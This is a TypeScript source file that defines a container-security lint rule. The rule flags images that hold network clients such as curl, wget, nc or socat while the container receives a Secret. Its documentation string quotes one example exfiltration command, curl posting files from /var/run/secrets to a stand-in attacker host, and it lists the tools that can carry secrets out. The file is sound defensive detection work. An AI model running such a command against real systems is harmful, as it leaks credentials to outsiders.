// Rule secret-in-network-client-image: a container receives a Secret and its image has a network client.
import { toolsOf } from '../exposure.js';
import { defineRule } from './rule.js';
import { checkToolRule } from './tool-rule.js';

const spec = {
  id: 'secret-in-network-client-image' as const,
  noun: 'a network client',
  label: 'Network client',
  select: (i: Parameters<typeof toolsOf>[0]) => toolsOf(i, 'network'),
};

export const secretInNetworkClientImage = defineRule({
  id: spec.id,
  defaultSeverity: 'error',
  docs: {
    summary: 'A container receives a Secret and its image has a network client.',
    what:
      'Reports every container that receives a Secret while its image holds a network client: curl, wget, nc, ' +
      'openssl, ssh/scp, socat, database clients (psql, mysql, redis-cli, mongosh), cloud CLIs, or the busybox ' +
      'applets that play those parts. The Dockerfile line that installed the client gets a matching finding. ' +
      'A tool the catalog only *may* hold (its sources do not confirm it, or a digest without a tag may name a variant ' +
      'without it) is reported as "may have", one severity below the rule\'s (error → warning); in JSON and SARIF the ' +
      'finding carries `certainty: unverified`.',
    why:
      'Reading a Secret is half of a leak; carrying it out is the other half. `curl -d @/var/run/secrets/... ' +
      'https://attacker` is one line. Without a network client the attacker has to write one in whatever the image ' +
      'still runs, which is slower and noisier.',
    example:
      '```dockerfile\nFROM debian:13-slim\nRUN apt-get update && apt-get install -y curl ca-certificates\n```\n' +
      '```yaml\n    envFrom:\n      - secretRef: { name: payment-keys }\n```',
    instead:
      'Drop the client from the final image (use it only in a build stage), or move to a shell-free base. Health ' +
      'checks belong in `httpGet`/`tcpSocket` probes, not in `curl` inside the container.',
  },
  check: (ctx) => checkToolRule(spec, ctx),
});
